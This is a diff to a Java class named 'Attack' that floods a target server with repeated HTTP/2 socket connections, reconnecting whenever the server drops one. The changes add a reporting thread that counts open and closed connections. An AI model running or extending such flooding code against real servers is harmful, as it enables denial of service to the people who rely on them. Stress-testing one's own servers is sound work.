@@ -14,6 +14,8 @@ import java.nio.channels.Selector;
 import java.nio.channels.SocketChannel;
 import java.nio.charset.StandardCharsets;
 import java.util.Locale;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
 import java.util.function.IntFunction;
 
 /**
@@ -50,8 +52,12 @@ final class Attack {
     /** GET / over http to the authority "a", from the table that HPACK begins with. */
     private static final String GET = "\u0082\u0084\u0086\u0041\u0001a";
 
+    private static final int REPORT_SECONDS = 5;
+
     private final URI server;
     private final String token;
+    private final AtomicLong opened = new AtomicLong();
+    private final AtomicLong closed = new AtomicLong();
 
     private Attack(URI server, String token) {
         this.server = server;
@@ -60,7 +66,23 @@ final class Attack {
 
     /** Attacks. */
     public static void main(String[] arguments) throws Exception {
-        new Attack(URI.create(arguments[1]), arguments[2]).run(Kind.valueOf(arguments[0].toUpperCase(Locale.ROOT)));
+        Attack attack = new Attack(URI.create(arguments[1]), arguments[2]);
+        Thread reports = new Thread(attack::report);
+        reports.setDaemon(true);
+        reports.start();
+        attack.run(Kind.valueOf(arguments[0].toUpperCase(Locale.ROOT)));
+    }
+
+    private void report() {
+        try {
+            while (true) {
+                TimeUnit.SECONDS.sleep(REPORT_SECONDS);
+                long open = opened.get() - closed.get();
+                System.out.println("    " + open + " connections are open, " + closed + " were closed");
+            }
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+        }
     }
 
     private void run(Kind kind) throws IOException, InterruptedException {
@@ -100,7 +122,12 @@ final class Attack {
     private void repeat(Client client) {
         while (!Thread.currentThread().isInterrupted()) {
             try (Socket socket = connect()) {
-                client.use(socket);
+                opened.incrementAndGet();
+                try {
+                    client.use(socket);
+                } finally {
+                    closed.incrementAndGet();
+                }
             } catch (IOException e) {
                 Thread.onSpinWait(); // The server has disconnected.
             } catch (InterruptedException e) {
@@ -141,6 +168,7 @@ final class Attack {
     private void use(SocketChannel channel, SelectionKey key, ByteBuffer buffer) throws IOException {
         try {
             if (key.isConnectable() && channel.finishConnect()) {
+                opened.incrementAndGet();
                 key.interestOps(SelectionKey.OP_READ);
             }
             if (key.isReadable() && channel.read(buffer.clear()) >= 0) {
@@ -151,6 +179,9 @@ final class Attack {
             }
         } catch (IOException e) {
             Thread.onSpinWait(); // The server has disconnected.
+        }
+        if (channel.isConnected()) {
+            closed.incrementAndGet();
         }
         channel.close();
         open(key.selector());
